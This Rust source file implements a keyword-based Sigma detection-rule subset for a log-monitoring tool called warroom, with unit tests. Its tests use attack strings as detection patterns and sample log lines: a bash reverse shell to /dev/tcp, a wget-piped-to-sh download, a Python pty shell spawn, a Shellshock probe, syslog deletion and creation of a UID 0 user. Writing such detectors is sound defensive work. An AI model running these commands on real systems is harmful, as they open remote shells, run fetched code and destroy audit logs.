//! The Sigma subset warroom runs: rules whose detection is keyword lists
//! (plain lists = any keyword; `'|all'` = every keyword), combined by a
//! condition of `and`, `or`, `not`, parentheses, `1 of x*`, `all of x*` and
//! `1 of them`/`all of them`, matched against the whole log line. Keywords
//! are case-insensitive substrings with Sigma's `*` and `?` wildcards.
//! Anything else (field selections, aggregations, other modifiers) is
//! refused with a message naming the construct.

use regex::Regex;

/// One named selection: keywords that must all, or any of them, appear.
#[derive(Debug, Clone)]
pub struct Selection {
    pub name: String,
    /// `any`: one alternation regex; `all`: one regex per keyword.
    patterns: Vec<Regex>,
    all: bool,
}

impl Selection {
    pub fn new(name: &str, keywords: &[String], all: bool) -> Result<Selection, String> {
        if keywords.is_empty() {
            return Err(format!("selection '{name}' has no keywords"));
        }
        let parts: Vec<String> = keywords.iter().map(|k| keyword_regex(k)).collect();
        let patterns = if all {
            parts
                .iter()
                .map(|p| Regex::new(&format!("(?i){p}")))
                .collect::<Result<Vec<_>, _>>()
        } else {
            Regex::new(&format!("(?i)(?:{})", parts.join("|"))).map(|r| vec![r])
        }
        .map_err(|e| format!("selection '{name}': {e}"))?;
        Ok(Selection {
            name: name.to_string(),
            patterns,
            all,
        })
    }

    pub fn matches(&self, line: &str) -> bool {
        if self.all {
            self.patterns.iter().all(|p| p.is_match(line))
        } else {
            self.patterns.iter().any(|p| p.is_match(line))
        }
    }
}

/// A Sigma keyword as an unanchored regex: `*` is any run of characters,
/// `?` any one character, `\*` `\?` `\\` are literal.
fn keyword_regex(keyword: &str) -> String {
    let mut out = String::new();
    let mut literal = String::new();
    let mut chars = keyword.chars();
    let flush = |literal: &mut String, out: &mut String| {
        out.push_str(&regex::escape(literal));
        literal.clear();
    };
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some(n @ ('*' | '?' | '\\')) => literal.push(n),
                Some(n) => {
                    literal.push('\\');
                    literal.push(n);
                }
                None => literal.push('\\'),
            },
            '*' => {
                flush(&mut literal, &mut out);
                out.push_str(".*");
            }
            '?' => {
                flush(&mut literal, &mut out);
                out.push('.');
            }
            c => literal.push(c),
        }
    }
    flush(&mut literal, &mut out);
    out
}

/// A parsed condition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Condition {
    Selection(usize),
    Not(Box<Condition>),
    And(Vec<Condition>),
    Or(Vec<Condition>),
}

impl Condition {
    pub fn eval(&self, selections: &[Selection], line: &str) -> bool {
        match self {
            Condition::Selection(i) => selections.get(*i).is_some_and(|s| s.matches(line)),
            Condition::Not(c) => !c.eval(selections, line),
            Condition::And(cs) => cs.iter().all(|c| c.eval(selections, line)),
            Condition::Or(cs) => cs.iter().any(|c| c.eval(selections, line)),
        }
    }
}

/// A compiled Sigma detection.
#[derive(Debug, Clone)]
pub struct SigmaDetection {
    pub selections: Vec<Selection>,
    pub condition: Condition,
}

impl SigmaDetection {
    pub fn matches(&self, line: &str) -> bool {
        self.condition.eval(&self.selections, line)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    Open,
    Close,
}

fn tokenize(s: &str) -> Result<Vec<Token>, String> {
    let mut out = Vec::new();
    let mut word = String::new();
    for c in s.chars() {
        match c {
            '(' | ')' | ' ' | '\t' | '\n' => {
                if !word.is_empty() {
                    out.push(Token::Word(std::mem::take(&mut word)));
                }
                match c {
                    '(' => out.push(Token::Open),
                    ')' => out.push(Token::Close),
                    _ => {}
                }
            }
            '|' => {
                return Err(
                    "aggregations ('| count() ...') are outside warroom's Sigma subset".into(),
                );
            }
            c => word.push(c),
        }
    }
    if !word.is_empty() {
        out.push(Token::Word(word));
    }
    Ok(out)
}

/// Parses a condition against the selection names in `names` (their index
/// is the selection's index).
pub fn parse_condition(text: &str, names: &[String]) -> Result<Condition, String> {
    let tokens = tokenize(text)?;
    let mut p = Parser {
        tokens,
        pos: 0,
        names,
        depth: 0,
    };
    let c = p.or()?;
    if let Some(t) = p.tokens.get(p.pos) {
        return Err(format!("unexpected {} in condition", describe(t)));
    }
    Ok(c)
}

fn describe(t: &Token) -> String {
    match t {
        Token::Word(w) => format!("'{w}'"),
        Token::Open => "'('".into(),
        Token::Close => "')'".into(),
    }
}

/// Parentheses and `not`s nested deeper than this are refused: a real
/// condition nests a few levels, and each level is a recursion here, in
/// matching and in dropping the condition.
pub const MAX_CONDITION_DEPTH: usize = 32;

struct Parser<'a> {
    tokens: Vec<Token>,
    pos: usize,
    names: &'a [String],
    /// Open parentheses and `not`s around the current position.
    depth: usize,
}

impl Parser<'_> {
    fn enter(&mut self) -> Result<(), String> {
        self.depth += 1;
        if self.depth > MAX_CONDITION_DEPTH {
            return Err(format!(
                "condition nested more than {MAX_CONDITION_DEPTH} levels deep (parentheses and 'not')"
            ));
        }
        Ok(())
    }

    fn peek_word(&self, w: &str) -> bool {
        matches!(self.tokens.get(self.pos), Some(Token::Word(x)) if x.eq_ignore_ascii_case(w))
    }

    fn or(&mut self) -> Result<Condition, String> {
        let mut parts = vec![self.and()?];
        while self.peek_word("or") {
            self.pos += 1;
            parts.push(self.and()?);
        }
        Ok(if parts.len() == 1 {
            parts.remove(0)
        } else {
            Condition::Or(parts)
        })
    }

    fn and(&mut self) -> Result<Condition, String> {
        let mut parts = vec![self.not()?];
        while self.peek_word("and") {
            self.pos += 1;
            parts.push(self.not()?);
        }
        Ok(if parts.len() == 1 {
            parts.remove(0)
        } else {
            Condition::And(parts)
        })
    }

    fn not(&mut self) -> Result<Condition, String> {
        if self.peek_word("not") {
            self.pos += 1;
            self.enter()?;
            let inner = self.not()?;
            self.depth -= 1;
            return Ok(Condition::Not(Box::new(inner)));
        }
        self.atom()
    }

    fn atom(&mut self) -> Result<Condition, String> {
        let Some(tok) = self.tokens.get(self.pos).cloned() else {
            return Err("condition ends too early".into());
        };
        self.pos += 1;
        match tok {
            Token::Open => {
                self.enter()?;
                let inner = self.or()?;
                self.depth -= 1;
                match self.tokens.get(self.pos) {
                    Some(Token::Close) => {
                        self.pos += 1;
                        Ok(inner)
                    }
                    _ => Err("missing ')' in condition".into()),
                }
            }
            Token::Close => Err("unexpected ')' in condition".into()),
            Token::Word(w) => {
                let quantifier = match w.to_ascii_lowercase().as_str() {
                    "1" | "any" => Some(false),
                    "all" => Some(true),
                    n if n.parse::<u32>().is_ok() => {
                        return Err(format!(
                            "'{w} of' is outside warroom's Sigma subset (use '1 of' or 'all of')"
                        ));
                    }
                    _ => None,
                };
                if let Some(all) = quantifier {
                    if !self.peek_word("of") {
                        return Err(format!("expected 'of' after '{w}'"));
                    }
                    self.pos += 1;
                    let Some(Token::Word(target)) = self.tokens.get(self.pos).cloned() else {
                        return Err(format!("expected a selection pattern after '{w} of'"));
                    };
                    self.pos += 1;
                    let picked: Vec<Condition> = self
                        .names
                        .iter()
                        .enumerate()
                        .filter(|(_, n)| target == "them" || glob_match(&target, n))
                        .map(|(i, _)| Condition::Selection(i))
                        .collect();
                    if picked.is_empty() {
                        return Err(format!("'{target}' names no selection"));
                    }
                    return Ok(if all {
                        Condition::And(picked)
                    } else {
                        Condition::Or(picked)
                    });
                }
                match self.names.iter().position(|n| *n == w) {
                    Some(i) => Ok(Condition::Selection(i)),
                    None => Err(format!("unknown selection '{w}' in condition")),
                }
            }
        }
    }
}

/// `selection_*` style patterns for `1 of` / `all of`: `*` is any run of
/// characters. Matched greedily, backtracking only to the last `*`, so the
/// time is at most pattern length times name length whatever the stars (a
/// recursive match took exponential time on `a*a*a*...`).
fn glob_match(pattern: &str, name: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    let (mut pi, mut ni) = (0, 0);
    // The last star seen, and where in the name its run ends so far.
    let mut star: Option<(usize, usize)> = None;
    while ni < n.len() {
        if p.get(pi) == Some(&'*') {
            star = Some((pi, ni));
            pi += 1;
        } else if p.get(pi) == Some(&n[ni]) {
            pi += 1;
            ni += 1;
        } else if let Some((sp, sn)) = star {
            star = Some((sp, sn + 1));
            pi = sp + 1;
            ni = sn + 1;
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|c| *c == '*')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sel(name: &str, kws: &[&str], all: bool) -> Selection {
        Selection::new(
            name,
            &kws.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            all,
        )
        .unwrap()
    }

    #[test]
    fn keywords_are_case_insensitive_substrings_with_wildcards() {
        let s = sel(
            "k",
            &["wget * - http* | sh", "import pty; pty.spawn*", "a?c"],
            false,
        );
        assert!(s.matches("xx WGET foo - https://x | sh yy"));
        assert!(s.matches("python -c 'import pty; pty.spawn(\"/bin/sh\")'"));
        assert!(s.matches("zabcz"));
        assert!(!s.matches("wget http://x"));
        let lit = sel("k", &["(){:;};", "a.b"], false);
        assert!(lit.matches("env x='(){:;};' bash"));
        assert!(!lit.matches("aXb"), "regex metacharacters are literal");
        let esc = sel("k", &[r"100\*"], false);
        assert!(esc.matches("100*") && !esc.matches("1000"));
    }

    #[test]
    fn all_modifier_needs_every_keyword() {
        let s = sel("k", &["bash -c /bin/bash", "&/dev/tcp/"], true);
        assert!(s.matches("bash -c /bin/bash -i >&/dev/tcp/10.0.0.1/4444"));
        assert!(!s.matches("bash -c /bin/bash"));
    }

    #[test]
    fn conditions_parse_and_evaluate() {
        let names: Vec<String> = ["selection", "falsepositives", "sel_a", "sel_b"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let sels = vec![
            sel("selection", &["rm /var/log/syslog"], false),
            sel("falsepositives", &["/syslog."], false),
            sel("sel_a", &["new user"], false),
            sel("sel_b", &["UID=0,"], false),
        ];
        let c = parse_condition("selection and not falsepositives", &names).unwrap();
        assert!(c.eval(&sels, "rm /var/log/syslog"));
        assert!(!c.eval(&sels, "rm /var/log/syslog.1"));
        let c = parse_condition("all of sel_*", &names).unwrap();
        assert!(c.eval(&sels, "useradd: new user: name=x, UID=0, GID=0"));
        assert!(!c.eval(&sels, "useradd: new user: name=x, UID=1000,"));
        let c = parse_condition("1 of sel_*", &names).unwrap();
        assert!(c.eval(&sels, "UID=0, only"));
        let c = parse_condition("(selection or sel_a) and not (falsepositives)", &names).unwrap();
        assert!(c.eval(&sels, "new user"));
        let c = parse_condition("1 of them", &names).unwrap();
        assert!(c.eval(&sels, "/syslog."));
        assert_eq!(
            parse_condition("all of them", &names).unwrap(),
            Condition::And((0..4).map(Condition::Selection).collect())
        );
    }

    #[test]
    fn unsupported_conditions_are_named() {
        let names = vec!["selection".to_string()];
        assert!(
            parse_condition("selection | count() > 5", &names)
                .unwrap_err()
                .contains("aggregations")
        );
        assert!(
            parse_condition("2 of selection*", &names)
                .unwrap_err()
                .contains("'2 of'")
        );
        assert!(
            parse_condition("nope", &names)
                .unwrap_err()
                .contains("unknown selection 'nope'")
        );
        assert!(
            parse_condition("(selection", &names)
                .unwrap_err()
                .contains("missing ')'")
        );
        assert!(
            parse_condition("selection and", &names)
                .unwrap_err()
                .contains("ends too early")
        );
        assert!(
            parse_condition("1 of filter_*", &names)
                .unwrap_err()
                .contains("names no selection")
        );
    }
}
